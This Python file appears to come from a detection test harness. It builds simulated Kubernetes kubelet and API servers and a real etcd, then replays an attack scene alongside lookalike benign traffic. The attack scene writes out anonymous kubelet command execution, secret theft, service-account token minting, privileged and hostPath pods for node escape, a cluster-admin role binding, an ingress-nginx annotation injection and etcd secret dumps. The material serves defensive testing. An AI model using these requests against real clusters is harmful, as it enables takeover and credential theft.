"""Kubernetes: kubelet and API server as stand-ins over HTTP, etcd as the real server with curl and etcdctl."""

import base64
import os

from .common import begin
from .scenes import scene
from .web import curl, json, reply, site

ETCD = dict(etcd="etcd-server", etcdctl="etcd-client")
POD = '{"kind":"PodList","apiVersion":"v1","metadata":{},"items":[{"metadata":{"name":"payments-6d4cf56db6-x2x7p","namespace":"shop"},"spec":{"containers":[{"name":"app","image":"shop/payments:1.5"}]}}]}'
FORBIDDEN = ('{"kind":"Status","apiVersion":"v1","metadata":{},"status":"Failure","message":"secrets is forbidden: User \\"system:anonymous\\" cannot list resource '
             '\\"secrets\\" in API group \\"\\" at the cluster scope","reason":"Forbidden","details":{"kind":"secrets"},"code":403}')
SECRET = b'k8s\x00\n\x0c\n\x02v1\x12\x06Secret\x12F\n(\n\x02db\x12\x00\x1a\x04shop"\x00*\x00\x12\x18\n\x08password\x12\x0cinert-secret\x1a\x06Opaque\x1a\x00"\x00'


def kubelet(host, port):
    site(host, port, [
        (r"^GET /(pods|runningpods)", json(POD)),
        (r"^POST /run/", reply(200, "uid=0(root) gid=0(root) groups=0(root)\n", "text/plain")),
        (r"^(GET|POST) /exec/", reply(302, "", Location="/cri/exec/bX7cPq2k")),
        (r"^(GET|POST) /cri/", reply(101, "", Upgrade="SPDY/3.1", Connection="Upgrade")),
        (r"^POST /(attach|portForward)/", reply(302, "", Location="/cri/attach/bX7cPq2k")),
        (r"^GET /containerLogs/", reply(200, "started\n", "text/plain")),
        (r"^GET /configz", json('{"kubeletconfig":{"authentication":{"anonymous":{"enabled":true}}}}')),
        (r"^GET /healthz", reply(200, "ok", "text/plain")),
        (r"^GET /metrics", reply(200, "# HELP kubelet_running_pods Number of pods\nkubelet_running_pods 12\n", "text/plain; version=0.0.4")),
        (r"^GET /stats/summary", json('{"node":{"nodeName":"node-1"},"pods":[]}')),
    ])


def api(host, port):
    site(host, port, [
        (r"^GET /api/v1/secrets", json(FORBIDDEN, 403)),
        (r"^GET /api/v1/namespaces/[^/]+/secrets", json('{"kind":"SecretList","items":[{"metadata":{"name":"db"},"data":{"password":"aW5lcnQ="}}]}')),
        (r"^GET .*/exec\?", reply(101, "", Upgrade="SPDY/3.1", Connection="Upgrade")),
        (r"^POST .*/exec\?", reply(101, "", Upgrade="SPDY/3.1", Connection="Upgrade")),
        (r"^POST .*/token$", json('{"kind":"TokenRequest","status":{"token":"inert"}}', 201)),
        (r"^POST ", json('{"kind":"Status","status":"Success"}', 201)),
        (r"^GET /api/v1/namespaces/[^/]+/configmaps", json('{"kind":"ConfigMapList","items":[]}')),
        (r"^GET /api/v1/namespaces/[^/]+/pods", json(POD)),
        (r"^GET /(version|livez|readyz|api)", json('{"major":"1","minor":"29","gitVersion":"v1.29.2"}')),
        (r"/proxy/", json(POD)),
    ])


def pod(**spec):
    import json as js
    return js.dumps({"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "p"}, "spec": spec}, separators=(",", ":"))


def etcd(lab, host):
    os.makedirs(lab.path("etcd"), mode=0o700)
    host.start("etcd", "--data-dir", lab.path("etcd"), "--enable-v2=true", "--listen-client-urls", "http://0.0.0.0:2379", "--advertise-client-urls", f"http://{host.ip}:2379",
               "--listen-peer-urls", "http://127.0.0.1:2380", port=2379, wait=30, env={"ETCD_UNSUPPORTED_ARCH": ""})
    v3 = {"ETCDCTL_API": "3"}
    host.run("etcdctl", "--endpoints=http://127.0.0.1:2379", "put", "/registry/secrets/shop/db", stdin=SECRET, env=v3)
    host.run("etcdctl", "--endpoints=http://127.0.0.1:2379", "put", "/shop/feature/dark-mode", "on", env=v3)
    curl(host, "http://127.0.0.1:2379/v2/keys/shop/currency", "value=EUR", method="PUT")


JSON = ["Content-Type: application/json"]


def b64(text):
    return base64.b64encode(text.encode()).decode()


@scene("attacks-kubernetes", **ETCD)
def attacks(lab):
    """kubelet run/exec, API server secrets, tokens, privileged pods; etcd (real) dumped over v2, v3 and gRPC"""
    intruder, node, master, store = lab.host("intruder", 66), lab.host("node", 10), lab.host("master", 2), lab.host("etcd", 3)
    kubelet(node, 10255), kubelet(node, 10250), api(master, 8080), etcd(lab, store)
    site(node, 8443, [(r"^POST", json('{"kind":"AdmissionReview"}'))])
    begin(lab)
    at = f"http://{node.ip}:10250"
    curl(intruder, f"http://{node.ip}:10255/pods")
    curl(intruder, f"{at}/runningpods/")
    curl(intruder, f"{at}/run/shop/payments-6d4cf56db6-x2x7p/app", "cmd=id")
    curl(intruder, f"{at}/exec/shop/payments-6d4cf56db6-x2x7p/app?command=id&input=1&output=1&tty=1", method="POST")
    curl(intruder, f"{at}/cri/exec/bX7cPq2k", headers=["Connection: Upgrade", "Upgrade: SPDY/3.1", "X-Stream-Protocol-Version: v4.channel.k8s.io"])
    curl(intruder, f"{at}/attach/shop/payments-6d4cf56db6-x2x7p/app?stdin=1", method="POST")
    curl(intruder, f"{at}/containerLogs/shop/payments-6d4cf56db6-x2x7p/app?tailLines=10")
    curl(intruder, f"{at}/configz")
    k8s = f"http://{master.ip}:8080"
    curl(intruder, f"{k8s}/api/v1/secrets?limit=500")
    curl(intruder, f"{k8s}/api/v1/namespaces/shop/secrets")
    curl(intruder, f"{k8s}/api/v1/namespaces/shop/pods/payments-6d4cf56db6-x2x7p/exec?command=sh&container=app&stdin=true&stdout=true", method="POST",
         headers=["Connection: Upgrade", "Upgrade: SPDY/3.1", "X-Stream-Protocol-Version: v4.channel.k8s.io"])
    curl(intruder, f"{k8s}/api/v1/namespaces/kube-system/serviceaccounts/clusterrole-aggregation-controller/token", '{"kind":"TokenRequest"}', headers=JSON)
    pods = f"{k8s}/api/v1/namespaces/default/pods"
    curl(intruder, pods, pod(containers=[{"name": "a", "image": "alpine", "securityContext": {"privileged": True}}]), headers=JSON)
    curl(intruder, pods, pod(volumes=[{"name": "h", "hostPath": {"path": "/", "type": ""}}], containers=[{"name": "a", "image": "alpine"}]), headers=JSON)
    curl(intruder, pods, pod(hostPID=True, hostNetwork=True, containers=[{"name": "a", "image": "alpine", "command": ["nsenter", "-t", "1", "-m", "sh"]}]), headers=JSON)
    curl(intruder, f"{k8s}/apis/rbac.authorization.k8s.io/v1/clusterrolebindings",
         '{"kind":"ClusterRoleBinding","metadata":{"name":"x"},"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"cluster-admin"},'
         '"subjects":[{"kind":"ServiceAccount","name":"default","namespace":"shop"}]}', headers=JSON)
    curl(intruder, f"{k8s}/apis/authorization.k8s.io/v1/selfsubjectrulesreviews", '{"kind":"SelfSubjectRulesReview","spec":{"namespace":"shop"}}', headers=JSON)
    curl(intruder, f"{k8s}/api/v1/nodes/node-1/proxy/runningpods/")
    curl(intruder, f"http://{node.ip}:8443/networking/v1/ingresses",
         '{"kind":"AdmissionReview","apiVersion":"admission.k8s.io/v1","request":{"object":{"kind":"Ingress","metadata":{"annotations":'
         '{"nginx.ingress.kubernetes.io/auth-url":"http://x/#;}}\\nssl_engine /proc/1/fd/9;\\n"}}}}', headers=JSON)
    kv = f"http://{store.ip}:2379"
    curl(intruder, f"{kv}/v2/keys/?recursive=true")
    curl(intruder, f"{kv}/v3/kv/range", '{"key":"AA==","range_end":"AA=="}')
    curl(intruder, f"{kv}/v3/kv/range", '{"key":"%s","range_end":"%s"}' % (b64("/registry/secrets/"), b64("/registry/secrets0")))
    curl(intruder, f"{kv}/v3/kv/put", '{"key":"%s","value":"%s"}' % (b64("/registry/clusterrolebindings/x"), b64("inert")))
    intruder.run("etcdctl", f"--endpoints={kv}", "get", "/registry/secrets/", "--prefix", env={"ETCDCTL_API": "3"})


@scene("benign-kubernetes", **ETCD)
def benign(lab):
    """health checks and metrics of a kubelet, harmless API calls, etcd used by an application for its own keys"""
    monitor, node, master, store = lab.host("monitor", 30), lab.host("node", 10), lab.host("master", 2), lab.host("etcd", 3)
    kubelet(node, 10255), kubelet(node, 10250), api(master, 8080), etcd(lab, store)
    site(node, 8443, [(r"^POST", json('{"kind":"AdmissionReview","response":{"allowed":true}}'))])
    site(node, 80, [(r"", reply(200, "{\"user\":\"system:anonymous\"}", "application/json"))])
    begin(lab)
    for path in ("/healthz", "/metrics", "/stats/summary"):
        curl(monitor, f"http://{node.ip}:10255{path}", agent="Prometheus/2.45.0")
    # the words of the attacks on servers that are something else
    curl(monitor, f"http://{node.ip}/pods?page=2")
    curl(monitor, f"http://{node.ip}/run/tests", "cmd=unit&branch=main")
    curl(monitor, f"http://{node.ip}/exec/report?command=monthly")
    curl(monitor, f"http://{node.ip}/cri/price-list")
    curl(monitor, f"http://{node.ip}/attach/file/notes.txt", "x=1")
    curl(monitor, f"http://{node.ip}/containerlogs.html")
    curl(monitor, f"http://{node.ip}/docs/configz")
    curl(monitor, f"http://{node.ip}/chat", headers=["Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: aW5lcnRpbmVydGluZXJ0aQ=="])
    k8s = f"http://{master.ip}:8080"
    for path in ("/version", "/readyz", "/api/v1/namespaces/shop/pods?watch=1", "/api/v1/namespaces/shop/pods/payments-6d4cf56db6-x2x7p", "/api/v1/namespaces/shop/configmaps",
                 "/api/v1/nodes/node-1/proxy/metrics", "/api/v1/namespaces/shop/serviceaccounts/default"):
        curl(monitor, k8s + path, agent="kubectl/v1.29.2")
    curl(monitor, f"{k8s}/api/v1/namespaces/shop/pods",
         pod(hostPID=False, volumes=[{"name": "d", "hostPath": {"path": "/srv/data"}}], containers=[{"name": "a", "image": "shop/web", "securityContext": {"privileged": False}}]), headers=JSON)
    curl(monitor, f"{k8s}/apis/rbac.authorization.k8s.io/v1/namespaces/shop/rolebindings", '{"kind":"RoleBinding","roleRef":{"kind":"ClusterRole","name":"view"}}', headers=JSON)
    curl(monitor, f"{k8s}/apis/authorization.k8s.io/v1/selfsubjectaccessreviews", '{"spec":{"resourceAttributes":{"verb":"get","resource":"pods"}}}', headers=JSON)
    curl(monitor, f"http://{node.ip}:8443/networking/v1/ingresses",
         '{"kind":"AdmissionReview","request":{"object":{"kind":"Ingress","metadata":{"annotations":{"nginx.ingress.kubernetes.io/rewrite-target":"/"}}}}}', headers=JSON)
    kv = f"http://{store.ip}:2379"
    curl(monitor, f"{kv}/health")
    curl(monitor, f"{kv}/v2/keys/shop/currency")
    curl(monitor, f"{kv}/v3/kv/range", '{"key":"%s"}' % b64("/shop/feature/dark-mode"))
    curl(monitor, f"{kv}/v3/kv/put", '{"key":"%s","value":"%s"}' % (b64("/shop/feature/beta"), b64("off")))
    monitor.run("etcdctl", f"--endpoints={kv}", "get", "/shop/", "--prefix", env={"ETCDCTL_API": "3"})
